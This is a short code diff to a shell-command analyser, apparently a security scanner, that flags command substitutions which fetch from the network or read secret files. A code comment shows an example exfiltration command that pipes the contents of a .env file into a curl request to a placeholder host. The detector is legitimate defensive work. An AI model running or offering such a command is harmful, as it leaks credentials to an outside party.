@@ -692,22 +692,25 @@ class Extractor:
         # Substitutions run first; remember whether one fetched from the network, and whether
         # it fed the program's name (``$(curl …)``) or its arguments.
         fetched_program = fetched_args = secret_args = False
+        out = self.out
         for k, word in enumerate(command.words):
-            start = len(self.out)
+            start = len(out)
             self.word(word, env, scope)
-            if any("network" in f.classes for f in self.out[start:]):
+            if len(out) == start:
+                continue  # nothing ran inside it (no substitution)
+            if any("network" in f.classes for f in out[start:]):
                 fetched_program = fetched_program or k == 0
                 fetched_args = True
-            if k and any("secret_read" in f.classes for f in self.out[start:]):
+            if k and any("secret_read" in f.classes for f in out[start:]):
                 secret_args = True  # ``curl "https://x/?q=$(cat .env)"``
         for redirect in command.redirects:
-            start = len(self.out)
+            start = len(out)
             self.word(redirect.target, env, scope)
             if redirect.heredoc is not None:
                 hd_scope = scope.derive(span=scope.span or (redirect.start, redirect.end, ""))
                 self.parts(redirect.heredoc.parts, env, hd_scope, None)
             if redirect.fd in (None, "0") and redirect.op in ("<", "<<<", "<<", "<<-"):
-                fetched_args = fetched_args or any("network" in f.classes for f in self.out[start:])
+                fetched_args = fetched_args or any("network" in f.classes for f in out[start:])
 
         argv: list[str] = []
         flags: list[int] = []
